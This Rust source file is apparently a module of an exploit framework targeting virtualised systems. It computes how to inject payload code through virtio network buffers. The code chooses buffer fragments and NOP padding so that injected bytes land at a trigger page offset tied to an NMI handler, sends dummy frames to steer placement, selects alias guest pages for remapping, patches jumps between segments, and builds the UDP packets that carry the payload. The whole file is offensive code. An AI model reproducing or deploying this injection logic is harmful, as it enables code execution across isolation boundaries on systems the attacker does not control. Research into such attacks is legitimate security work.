// SPDX-License-Identifier: Apache-2.0

//! Placing payload bytes at the trigger's page offset and building the
//! frames that carry them.

use serde::{Deserialize, Serialize};

use super::identify::BufferLocation;
use super::trigger::TriggerPoint;
use super::AttackError;
use crate::guest::PayloadProgram;
use crate::mem::PAGE_SIZE;
use crate::slat::Gfn;
use crate::virtio::driver::FRAGMENT_HEADROOM;
use crate::virtio::packet::{Packet, UdpEndpoints};

const PAGE: u64 = PAGE_SIZE as u64;

/// Where one payload segment goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FragmentChoice {
    pub fragment: u32,
    /// Filler bytes between the protocol headers and the code.
    pub pad: u32,
    /// Frames to send first so that the crafted one lands in `fragment`.
    pub dummies: u32,
}

/// Byte offset of the code inside the buffer, if the segment fits.
fn placement(start: u64, fragment_size: u32, page_offset: u64, header_len: u32, code_len: u32) -> Option<u64> {
    let earliest = start + u64::from(header_len);
    let mut p = earliest - earliest % PAGE + page_offset;
    if p < earliest {
        p += PAGE;
    }
    let limit = start + u64::from(fragment_size) - u64::from(FRAGMENT_HEADROOM);
    (p + u64::from(code_len) <= limit && page_offset + u64::from(code_len) <= PAGE).then_some(p)
}

/// First fragment at or after `next_fragment` whose frame can carry
/// `code_len` bytes of code starting at page offset `trigger_offset`.
pub fn choose_fragment_and_padding(
    trigger_offset: u32,
    fragment_size: u32,
    next_fragment: u32,
    header_len: u32,
    code_len: u32,
) -> Result<FragmentChoice, AttackError> {
    let t = u64::from(trigger_offset);
    if t >= PAGE {
        return Err(AttackError::InfeasibleOffset(trigger_offset));
    }
    let count = crate::virtio::fragment_count(fragment_size);
    (next_fragment..count)
        .find_map(|idx| {
            let start = u64::from(idx) * u64::from(fragment_size);
            placement(start, fragment_size, t, header_len, code_len).map(|p| FragmentChoice {
                fragment: idx,
                pad: (p - start - u64::from(header_len)) as u32,
                dummies: idx - next_fragment,
            })
        })
        .ok_or(AttackError::InfeasibleOffset(trigger_offset))
}

/// One frame of the payload and where its code will sit in guest memory.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SegmentPlan {
    pub choice: FragmentChoice,
    /// Guest-physical address of the segment's first code byte.
    pub code_gpa: u64,
    /// Guest page the segment is executed through.
    pub exec_gfn: Gfn,
    pub packet: Packet,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct InjectionPlan {
    pub dummies: u32,
    pub segments: Vec<SegmentPlan>,
}

/// Guest pages near the trigger that can be borrowed as jump targets.
fn alias_gfns(trigger: &TriggerPoint, avoid: &[Gfn], n: usize) -> Vec<Gfn> {
    let t = trigger.do_nmi_gfn.0;
    (1..64u64)
        .flat_map(|d| [t + d, t.wrapping_sub(d)])
        .map(Gfn)
        .filter(|g| *g != trigger.do_nmi_gfn && *g != trigger.handler_gfn && !avoid.contains(g))
        .take(n)
        .collect()
}

fn frame(ep: &UdpEndpoints, pad: u32, code: &[u8]) -> Packet {
    let mut payload = vec![0x90u8; pad as usize];
    payload.extend_from_slice(code);
    Packet::udp(ep, &payload)
}

/// Lays out `program` over consecutive fragments. The first segment goes to
/// the trigger offset; each following one starts right after the headers of
/// the next fragment (or at the next page if it would straddle one) and is
/// reached through an alias page that the caller remaps.
pub fn plan_injection(
    program: &PayloadProgram,
    trigger: &TriggerPoint,
    location: &BufferLocation,
    header_len: u32,
    avoid: &[Gfn],
    ep: &UdpEndpoints,
) -> Result<InjectionPlan, AttackError> {
    program.validate().map_err(AttackError::BadPayload)?;
    let mut prog = program.clone();
    let n = prog.segments.len();
    let fs = location.fragment_size;
    let aliases = alias_gfns(trigger, avoid, n - 1);
    let base = location.base_gfn.addr();

    let mut first = location.next_fragment;
    loop {
        let c0 = choose_fragment_and_padding(
            trigger.do_nmi_page_offset,
            fs,
            first,
            header_len,
            prog.segment_bytes(0).len() as u32,
        )?;
        let mut choices = vec![c0];
        let mut offsets = vec![u64::from(trigger.do_nmi_page_offset)];
        let mut ok = true;
        for i in 1..n {
            let idx = c0.fragment + i as u32;
            if idx >= location.fragment_count {
                ok = false;
                break;
            }
            let start = u64::from(idx) * u64::from(fs);
            let len = prog.segment_bytes(i).len() as u64;
            let earliest = start + u64::from(header_len);
            let off = if earliest % PAGE + len <= PAGE { earliest % PAGE } else { 0 };
            match placement(start, fs, off, header_len, len as u32) {
                Some(p) => {
                    choices.push(FragmentChoice {
                        fragment: idx,
                        pad: (p - start - u64::from(header_len)) as u32,
                        dummies: 0,
                    });
                    offsets.push(off);
                }
                None => {
                    ok = false;
                    break;
                }
            }
        }
        if !ok {
            first = c0.fragment + 1;
            continue;
        }

        let mut exec = vec![trigger.do_nmi_gfn];
        exec.extend(aliases.iter().copied());
        if exec.len() < n {
            return Err(AttackError::BadPayload("not enough alias pages".into()));
        }
        for i in 0..n - 1 {
            let here = exec[i].addr() + offsets[i];
            let next_insn = here + prog.segment_bytes(i).len() as u64;
            let target = exec[i + 1].addr() + offsets[i + 1];
            let rel = i16::try_from(target as i64 - next_insn as i64)
                .map_err(|_| AttackError::BadPayload("jump out of range".into()))?;
            prog.patch_jump(i, rel);
        }
        let segments = choices
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let start = base + u64::from(c.fragment) * u64::from(fs);
                SegmentPlan {
                    choice: *c,
                    code_gpa: start + u64::from(header_len) + u64::from(c.pad),
                    exec_gfn: exec[i],
                    packet: frame(ep, c.pad, &prog.segment_bytes(i)),
                }
            })
            .collect();
        return Ok(InjectionPlan {
            dummies: c0.dummies,
            segments,
        });
    }
}
